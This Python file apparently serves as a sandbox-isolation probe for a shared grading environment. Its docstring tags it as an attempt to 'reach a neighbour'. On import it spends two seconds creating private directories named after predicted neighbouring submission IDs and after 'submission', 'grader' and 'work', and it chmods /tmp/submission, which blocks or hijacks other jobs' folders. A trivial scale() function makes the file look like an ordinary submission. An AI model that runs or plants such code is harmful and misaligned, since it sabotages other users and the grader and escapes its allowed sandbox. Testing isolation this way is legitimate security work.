"""Makes the folders that the next users would get, by their numbers, and shuts them.
class: reach a neighbour
verdict: error, failed, timeout, memory, crash, blocked
success: sibling
control: shared
"""

import os
import tempfile
import time

PLACES = [os.getcwd(), "/tmp/submission", tempfile.gettempdir(), os.path.dirname(tempfile.gettempdir()), "/tmp", "/dev/shm"]

number = int("0" + "".join(filter(str.isdigit, os.path.basename(tempfile.gettempdir()))))
names = [str(number + step) for step in range(-600, 600)] + ["submission", "submission.lock", "grader", "work"]
end = time.time() + 2
while time.time() < end:
    for place in PLACES[3:]:
        for name in names:
            try:
                os.mkdir(os.path.join(place, name), 0o700)
            except OSError:
                pass
    try:
        os.chmod("/tmp/submission", 0o700)
    except OSError:
        pass
    time.sleep(0.01)


def scale(x):
    return x
